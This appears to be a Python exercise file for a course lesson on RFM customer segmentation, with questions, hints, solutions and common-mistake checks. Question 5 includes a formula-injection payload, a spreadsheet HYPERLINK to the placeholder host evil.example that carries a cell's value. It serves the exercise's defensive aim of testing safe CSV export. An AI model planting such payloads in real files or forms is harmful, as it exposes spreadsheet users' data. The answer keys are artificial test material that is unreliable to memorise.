@@ -1,0 +1,287 @@
+"""Exercises of lesson 05, *RFM segmentation*: the two summaries, scores with ties, segments, safe exports.
+
+Expected values are computed from the course's database with :mod:`crmlab.analysis.rfm` and
+:mod:`crmlab.export` on the first check, never typed in; each known mistake is computed the
+wrong way.
+"""
+
+from __future__ import annotations
+
+import csv
+import tempfile
+from functools import cache
+from pathlib import Path
+
+import pandas as pd
+
+from crmlab.analysis import rfm
+from crmlab.datasets import load_crm
+from crmlab.exercises import CompareOptions, Mistake, Question, Reflection
+from crmlab.export import to_safe_csv
+
+TITLE = "RFM segmentation"
+AS_OF = "2025-12-31"
+TIMEZONE = "Asia/Tehran"
+#: The name a hostile visitor typed into the web shop's sign-up form (question 5).
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?id="&A2, "Claim your prize")'
+_SERIES = CompareOptions(rtol=1e-9)
+
+
+@cache
+def _crm():
+    return load_crm(tables=["orders", "customers"])
+
+
+def _purchases(statuses=("completed",), tz: str = TIMEZONE) -> pd.DataFrame:
+    orders = _crm().orders
+    done = orders[orders["status"].isin(statuses)]
+    return done.assign(ordered_local=done["ordered_at"].dt.tz_convert(tz))
+
+
+def _modelling(purchases: pd.DataFrame | None = None) -> pd.DataFrame:
+    purchases = _purchases() if purchases is None else purchases
+    return rfm.rfm_summary(purchases, datetime_col="ordered_local", monetary_value_col="total_cents",
+                           observation_period_end=AS_OF)  # fmt: skip
+
+
+def _summary(purchases: pd.DataFrame | None = None) -> pd.DataFrame:
+    purchases = _purchases() if purchases is None else purchases
+    return rfm.customer_summary(purchases, datetime_col="ordered_local", as_of=AS_OF)
+
+
+def _daily_totals(tz: str = TIMEZONE) -> pd.Series:
+    p = _purchases(tz=tz)
+    day = p["ordered_local"].dt.tz_localize(None).dt.normalize()
+    return p.groupby(["customer_id", day])["total_cents"].sum()
+
+
+# ---------------------------------------------------------------- q1: frequency
+
+
+def _frequency() -> pd.Series:
+    return _modelling()["frequency"]
+
+
+def _frequency_with_first() -> pd.Series:
+    return _frequency() + 1
+
+
+def _frequency_per_order() -> pd.Series:
+    return (_summary()["n_orders"] - 1).astype(float)
+
+
+def _frequency_utc() -> pd.Series:
+    p = _purchases()
+    return rfm.rfm_summary(p, datetime_col="ordered_at", observation_period_end=AS_OF)["frequency"]
+
+
+# ---------------------------------------------------------------- q2: monetary value
+
+
+def _monetary() -> pd.Series:
+    return _modelling()["monetary_value"]
+
+
+def _monetary_all_days() -> pd.Series:
+    return _daily_totals().groupby(level="customer_id").mean()
+
+
+def _monetary_per_order() -> pd.Series:
+    p = _purchases().sort_values(["customer_id", "ordered_at"])
+    repeat = p[p.groupby("customer_id").cumcount() > 0]
+    mean = repeat.groupby("customer_id")["total_cents"].mean()
+    return mean.reindex(_monetary().index, fill_value=0.0)
+
+
+def _nan_for_one_timers(answer) -> bool:
+    expected = _monetary()
+    return bool(answer.isna().sum() == (expected == 0).sum() > 0 and answer.fillna(0).sub(expected).abs().max() < 1e-6)
+
+
+# ---------------------------------------------------------------- q3: F scores with ties
+
+
+def _f_score() -> pd.Series:
+    return rfm.quantile_score(_summary()["n_orders"])
+
+
+def _f_score_qcut_values() -> pd.Series:
+    orders = _summary()["n_orders"]
+    return pd.qcut(orders, 5, labels=False, duplicates="drop") + 1
+
+
+def _f_score_reversed() -> pd.Series:
+    return 6 - _f_score()
+
+
+def _fewer_scores(answer) -> bool:
+    return isinstance(answer, pd.Series) and 0 < answer.nunique() < 5
+
+
+# ---------------------------------------------------------------- q4: segment size
+
+
+def _at_risk(table: pd.DataFrame) -> int:
+    return int((table["segment"] == "At risk").sum())
+
+
+def _segment_size() -> int:
+    return _at_risk(rfm.rfm_table(_summary()))
+
+
+def _segment_size_lifetimes_recency() -> int:
+    table = rfm.rfm_table(_modelling(), recency="recency", frequency="frequency", monetary="monetary_value")
+    return _at_risk(table)
+
+
+def _segment_size_all_orders() -> int:
+    return _at_risk(rfm.rfm_table(_summary(_purchases(statuses=("completed", "cancelled", "returned")))))
+
+
+# ---------------------------------------------------------------- q5: a neutralised cell
+
+
+def _safe_cell() -> str:
+    folder = Path(tempfile.mkdtemp(prefix="crmlab-l05-"))
+    path = to_safe_csv(pd.DataFrame({"first_name": [HOSTILE_NAME], "phone": ["+989121234567"]}),
+                       folder / "signup.csv")  # fmt: skip
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        return list(csv.reader(f))[1][0]
+
+
+QUESTIONS = [
+    Question(
+        "q1",
+        "Frequency as lifetimes and pymc-marketing define it: a Series indexed by `customer_id` with the number "
+        "of *repeat* purchase days of each customer, counting days by the company's clock (`ordered_local`).",
+        expected=_frequency,
+        hints=[
+            "Group purchases by day first: two orders on the same day are one purchase. "
+            "`purchases['ordered_local'].dt.date` gives the local day.",
+            "Count the distinct days per customer (`.nunique()`), then leave out the first one.",
+            "`purchases.groupby('customer_id')['ordered_local'].apply(lambda t: t.dt.date.nunique()) - 1`, or "
+            "`rfm.rfm_summary(purchases, datetime_col='ordered_local', observation_period_end=AS_OF)['frequency']`.",
+        ],
+        solution="days = purchases['ordered_local'].dt.date\n"
+        "frequency = days.groupby(purchases['customer_id']).nunique() - 1",
+        mistakes=[
+            Mistake("You counted the first purchase as a repeat purchase. `frequency` counts the purchase days "
+                    "*after* the first one: subtract 1 from the number of distinct days.",
+                    expected=_frequency_with_first),  # fmt: skip
+            Mistake("You counted orders, not purchase days: two orders on the same day are one purchase. Count "
+                    "distinct days per customer (`.dt.date` then `.nunique()`).",
+                    expected=_frequency_per_order),  # fmt: skip
+            Mistake("Your days follow UTC: an order placed just after midnight in Tehran lands on the day before. "
+                    "Use the local time, `ordered_local`.",
+                    expected=_frequency_utc),  # fmt: skip
+        ],
+        compare=_SERIES,
+    ),
+    Question(
+        "q2",
+        "Monetary value as lifetimes defines it, in cents: a Series indexed by `customer_id` with the average "
+        "spend per *repeat* purchase day (the first purchase day left out; 0 for customers who never came back).",
+        expected=_monetary,
+        hints=[
+            "Add up each customer's orders per local day first: "
+            "`purchases.groupby(['customer_id', purchases['ordered_local'].dt.date])['total_cents'].sum()`.",
+            "Drop each customer's first day: keep the rows where "
+            "`daily.groupby(level='customer_id').cumcount() > 0`.",
+            "Average what is left per customer, then give the customers with no repeat day a 0: "
+            "`.reindex(daily.index.unique('customer_id'), fill_value=0)`.",
+        ],
+        solution="daily = purchases.groupby(['customer_id', purchases['ordered_local'].dt.date])['total_cents'].sum()\n"
+        "repeat = daily[daily.groupby(level='customer_id').cumcount() > 0]\n"
+        "monetary = repeat.groupby(level='customer_id').mean().reindex(daily.index.unique('customer_id'), "
+        "fill_value=0)",
+        mistakes=[
+            Mistake("You averaged over all purchase days, the first one included. lifetimes leaves the first "
+                    "purchase out: the models describe what customers spend *after* they were acquired.",
+                    expected=_monetary_all_days),  # fmt: skip
+            Mistake("You averaged per order. Two orders on the same day are one purchase: add them up per day "
+                    "before you average.",
+                    expected=_monetary_per_order),  # fmt: skip
+            Mistake("Customers who never came back have NaN in your Series; lifetimes gives them 0. Fill the "
+                    "gaps with `.reindex(..., fill_value=0)` or `.fillna(0)`.",
+                    when=_nan_for_one_timers),  # fmt: skip
+            Mistake("Your values look like dollars; the question asks for cents, as in `total_cents`.",
+                    expected=lambda: _monetary() / 100),  # fmt: skip
+        ],
+        compare=_SERIES,
+    ),
+    Question(
+        "q3",
+        "F scores with ties handled: a Series indexed by `customer_id` with a score from 1 to 5 for "
+        "`summary['n_orders']`, five groups of equal size, more orders scoring higher; equal numbers of orders "
+        "are ordered by customer id (pandas' `rank(method='first')` on the summary sorted by `customer_id`).",
+        expected=_f_score,
+        hints=[
+            "`pd.qcut(summary['n_orders'], 5)` cuts at values: all customers with the same number of orders land "
+            "in one bin, so the bins cannot be of equal size.",
+            "Rank first: `summary['n_orders'].rank(method='first')` gives every customer a different rank.",
+            "`pd.qcut(summary['n_orders'].rank(method='first'), 5, labels=False) + 1`, or "
+            "`rfm.quantile_score(summary['n_orders'])`.",
+        ],
+        solution="f_score = pd.qcut(summary['n_orders'].rank(method='first'), 5, labels=False) + 1",
+        mistakes=[
+            Mistake("Your five groups are not of equal size: `pd.qcut` cut the *values*, and customers with the "
+                    "same number of orders all land in one bin. Rank them first with `rank(method='first')`.",
+                    expected=_f_score_qcut_values),  # fmt: skip
+            Mistake("Your scores use fewer than five values: ties collapsed some bins (`duplicates='drop'` "
+                    "merges them silently). Score the ranks, not the values.",
+                    when=_fewer_scores),  # fmt: skip
+            Mistake("Your scores run the wrong way: more orders must give a *higher* F score.",
+                    expected=_f_score_reversed),  # fmt: skip
+        ],
+        compare=_SERIES,
+    ),
+    Question(
+        "q4",
+        "How many customers are in the segment 'At risk', with the business summary of completed orders on "
+        "local days, scored and segmented by `rfm.rfm_table`?",
+        expected=_segment_size,
+        hints=[
+            "`table = rfm.rfm_table(summary)` adds the scores and the `segment` column.",
+            "Count the rows whose `segment` is 'At risk': `(table['segment'] == 'At risk').sum()`.",
+        ],
+        solution="table = rfm.rfm_table(summary)\nat_risk = int((table['segment'] == 'At risk').sum())",
+        mistakes=[
+            Mistake("You scored lifetimes' `recency` (days from the first to the last purchase) as if it were days "
+                    "since the last order. Segment on the business summary: `days_since_last_order`.",
+                    expected=_segment_size_lifetimes_recency),  # fmt: skip
+            Mistake("Your summary counts cancelled and returned orders as purchases: keep the completed ones.",
+                    expected=_segment_size_all_orders),  # fmt: skip
+        ],
+    ),
+    Question(
+        "q5",
+        "Write the one-row table `signup` (the hostile first name `HOSTILE_NAME` and a phone number) with "
+        "`to_safe_csv`, read the file back with the `csv` module, and give the text of the first-name cell "
+        "as it arrives.",
+        expected=_safe_cell,
+        hints=[
+            "`path = to_safe_csv(signup, folder / 'signup.csv')` writes it.",
+            "Read the text with `path.read_text(encoding='utf-8-sig')` (the file starts with a byte-order mark) "
+            "and split it into rows with `list(csv.reader(text.splitlines()))`; row 0 is the header.",
+            "The first-name cell is `rows[1][0]`.",
+        ],
+        solution="path = to_safe_csv(signup, folder / 'signup.csv')\n"
+        "rows = list(csv.reader(path.read_text(encoding='utf-8-sig').splitlines()))\n"
+        "cell = rows[1][0]",
+        mistakes=[
+            Mistake("That cell still starts with `=`: a spreadsheet would run it as a formula. Write the file "
+                    "with `to_safe_csv`, not `DataFrame.to_csv`.",
+                    expected=lambda: HOSTILE_NAME),  # fmt: skip
+            Mistake("That is the phone number's cell; the question asks for the first name, the first column.",
+                    when=lambda answer: answer == "+989121234567"),  # fmt: skip
+        ],
+    ),
+    Reflection(
+        "q9",
+        "This month's budget pays for one campaign to one segment. Which segment would you choose, with what "
+        "message, and why not the Champions?",
+        solution="Cannot lose or At risk: they used to buy often and still account for a fifth of the revenue, "
+        "and they are slipping away, so a personal win-back message is worth its cost. Champions buy anyway; "
+        "a discount to them mostly gives away margin. Lost customers cost more to win back than they bring.",
+    ),
+]
